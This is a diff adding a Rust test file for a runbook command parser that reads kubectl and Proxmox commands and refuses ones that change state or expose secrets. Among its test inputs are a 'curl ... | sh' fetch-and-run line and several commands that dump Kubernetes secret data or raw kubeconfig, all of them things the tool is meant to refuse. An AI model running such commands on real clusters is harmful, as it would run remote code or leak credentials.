@@ -1,0 +1,183 @@
+//! What single commands come to.
+
+use runbook::{
+    check::{Cause, Check, ClusterAsk, GuestKind, LogTarget, Output, ProxmoxAsk, Question, Reading, Refusal, Scope},
+    command::{FenceContext, read, recognise},
+    filter::{Filter, TailFrom},
+};
+
+fn check(text: &str) -> Check {
+    match recognise(text) {
+        Reading::Check { check } => *check,
+        other => panic!("{text}\n{other:#?}"),
+    }
+}
+
+fn cluster(text: &str) -> ClusterAsk {
+    match check(text).question {
+        Question::Cluster(question) => question.ask,
+        other => panic!("{text}\n{other:#?}"),
+    }
+}
+
+fn proxmox(text: &str) -> (Option<String>, ProxmoxAsk) {
+    match check(text).question {
+        Question::Proxmox(question) => (question.host, question.ask),
+        other => panic!("{text}\n{other:#?}"),
+    }
+}
+
+fn refused(text: &str) -> Refusal {
+    match recognise(text) {
+        Reading::Refused(refusal) => refusal,
+        other => panic!("{text}\n{other:#?}"),
+    }
+}
+
+fn unknown(text: &str) -> Refusal {
+    match recognise(text) {
+        Reading::Unknown(refusal) => refusal,
+        other => panic!("{text}\n{other:#?}"),
+    }
+}
+
+#[test]
+fn reads_a_sorted_list_of_pods_with_its_tail() {
+    let text = "kubectl --kubeconfig=/root/.kube/config get pods -A --sort-by='.status.containerStatuses[0].restartCount' \
+                2>/dev/null | tail -20";
+    let check = check(text);
+    assert_eq!(check.filters, [Filter::Tail(TailFrom::Last(20))]);
+    let Question::Cluster(question) = check.question else { panic!("{check:?}") };
+    assert_eq!(question.context, None);
+    let ClusterAsk::Get(get) = question.ask else { panic!("{question:?}") };
+    assert_eq!(get.resources[0].kind, "pods");
+    assert_eq!(get.scope, Scope::All);
+    assert_eq!(get.sort_by.as_deref(), Some("status.containerStatuses[0].restartCount"));
+    assert_eq!(get.output, Output::Table);
+}
+
+#[test]
+fn reads_logs_with_placeholders() {
+    let command = read(
+        "kubectl --context=admin@<cluster> logs -n <namespace> <pod> --previous --tail=50",
+        &FenceContext::default(),
+    );
+    assert_eq!(command.parameters, ["cluster", "namespace", "pod"]);
+    let Reading::Check { check } = command.reading else { panic!("{:?}", command.reading) };
+    let Question::Cluster(question) = check.question else { panic!("{check:?}") };
+    assert_eq!(question.context.as_deref(), Some("admin@<cluster>"));
+    let ClusterAsk::Logs(logs) = question.ask else { panic!("{question:?}") };
+    assert_eq!(logs.target, LogTarget::Pod("<pod>".into()));
+    assert_eq!((logs.tail_lines, logs.previous, logs.follow), (Some(50), true, false));
+}
+
+#[test]
+fn reads_continuation_lines_and_partial_names() {
+    let text = "kubectl --context=admin@monitoring-cluster -n monitoring logs \\\n  \
+                kube-prometheus-stack-grafana-<pod-id> -c grafana-sc-dashboard --previous --tail=30";
+    let ClusterAsk::Logs(logs) = cluster(text) else { panic!() };
+    assert_eq!(logs.target, LogTarget::Pod("kube-prometheus-stack-grafana-<pod-id>".into()));
+    assert_eq!(logs.container.as_deref(), Some("grafana-sc-dashboard"));
+    assert_eq!(read(text, &FenceContext::default()).parameters, ["pod-id"]);
+}
+
+#[test]
+fn reads_a_process_list_as_running_tasks_without_the_password() {
+    let text = "sshpass -p 'hunter2' ssh root@10.10.0.20 \"ps aux | grep vzdump | grep -v grep\"";
+    let ask = ProxmoxAsk::RunningTasks { task_type: "vzdump".into() };
+    assert_eq!(proxmox(text), (Some("10.10.0.20".into()), ask.clone()));
+    assert!(check(text).filters.is_empty());
+    assert!(!format!("{:?}", check(text)).contains("hunter2"));
+    assert_eq!(proxmox("ps aux | grep '[v]zdump'"), (None, ask.clone()));
+    assert_eq!(proxmox("ssh pve 'pgrep -a vzdump'"), (Some("pve".into()), ask));
+    assert_eq!(refused("ps aux | grep nginx").cause, Cause::NeedsShell);
+}
+
+#[test]
+fn refuses_what_changes_something_by_name() {
+    for text in [
+        "kubectl delete pod x",
+        "kubectl -n x rollout restart deploy/y",
+        "sudo systemctl restart pveproxy",
+        "ssh pve 'qm stop 101'",
+        "kubectl get pods | xargs kubectl delete pod",
+        "kubectl get pods; kubectl delete pod x",
+        "pvesh set /nodes/x/config --description y",
+    ] {
+        assert!(
+            matches!(recognise(text), Reading::Refused(Refusal { cause: Cause::Changes, .. }) | Reading::Unknown(_)),
+            "{text}"
+        );
+    }
+    assert_eq!(refused("kubectl delete pod x").cause, Cause::Changes);
+}
+
+#[test]
+fn says_whose_flag_it_is_and_suggests_the_right_spelling() {
+    let refusal = unknown("kubectl get pods --grace-period=0");
+    assert_eq!(refusal.reason, "`--grace-period` belongs to `kubectl delete`, not to `kubectl get`.");
+    assert_eq!(refusal.span, Some(17..33));
+    assert!(unknown("kubectl logs x --tial=5").reason.contains("Did you mean `--tail`?"));
+    assert!(unknown("kubectl gte pods").reason.contains("Did you mean `get`?"));
+}
+
+#[test]
+fn asks_a_nested_command_for_a_value() {
+    let text = "kubectl -n a describe pod $(kubectl -n a get pod -l app=<app> -o jsonpath='{.items[0].metadata.name}')";
+    let command = read(text, &FenceContext::default());
+    assert!(matches!(command.reading, Reading::Check { .. }), "{:?}", command.reading);
+    assert_eq!(command.parameters, ["app", "answer-1"]);
+    assert_eq!(command.supplies.len(), 1);
+    let refusal = unknown("kubectl get pod $(curl -s http://x/y | sh)");
+    assert!(refusal.span.is_some_and(|span| span.start > 15));
+}
+
+#[test]
+fn knows_what_a_file_has_set_before() {
+    let mut context = FenceContext::default();
+    for text in ["export KUBECONFIG=~/x", "NS=monitoring", "POD=$(kubectl -n $NS get pod -o name | head -1)"] {
+        context.absorb(text);
+    }
+    let command = read("kubectl -n $NS logs $POD", &context);
+    assert_eq!(command.parameters, ["pod"]);
+    assert_eq!(command.supplies[0].parameter, "pod");
+    let Reading::Check { check } = &command.reading else { panic!("{:?}", command.reading) };
+    assert!(format!("{check:?}").contains("monitoring"));
+    context.absorb("ssh root@10.0.0.1");
+    let Reading::Check { check } = read("pvesm status", &context).reading else { panic!() };
+    assert!(format!("{check:?}").contains("10.0.0.1"));
+    context.end_fence();
+    let Reading::Check { check } = read("pvesm status", &context).reading else { panic!() };
+    assert!(!format!("{check:?}").contains("10.0.0.1"));
+}
+
+#[test]
+fn keeps_the_data_of_secrets_to_itself() {
+    for text in [
+        "kubectl get secret x -o yaml",
+        "kubectl get secrets -o json | jq .",
+        "kubectl get secret/x -o jsonpath='{.data.password}' | base64 -d",
+        "kubectl get pods,secrets -o yaml",
+        "kubectl get secret x -o go-template='{{.data}}'",
+        "kubectl get --raw /api/v1/namespaces/x/secrets/y",
+        "kubectl config view --raw",
+    ] {
+        assert_eq!(refused(text).cause, Cause::SecretData, "{text}");
+    }
+    check("kubectl get secrets -A");
+    check("kubectl describe secret x");
+    check("kubectl get secret x -o jsonpath='{.metadata.labels}'");
+}
+
+#[test]
+fn reads_proxmox_tools_here_and_on_a_host() {
+    assert_eq!(proxmox("qm list").1, ProxmoxAsk::Guests { kind: GuestKind::Vm });
+    let status = ProxmoxAsk::GuestStatus { kind: GuestKind::Container, id: "101".into(), verbose: false };
+    assert_eq!(proxmox("ssh root@pve pct status 101"), (Some("pve".into()), status));
+    assert!(matches!(
+        proxmox("pvesh get /nodes/<node>/status --output-format json").1,
+        ProxmoxAsk::Api { json: true, .. }
+    ));
+    assert_eq!(refused("pct exec 101 -- ls").cause, Cause::NeedsShell);
+    unknown("pvesh get /nodes/x/vncshell");
+}
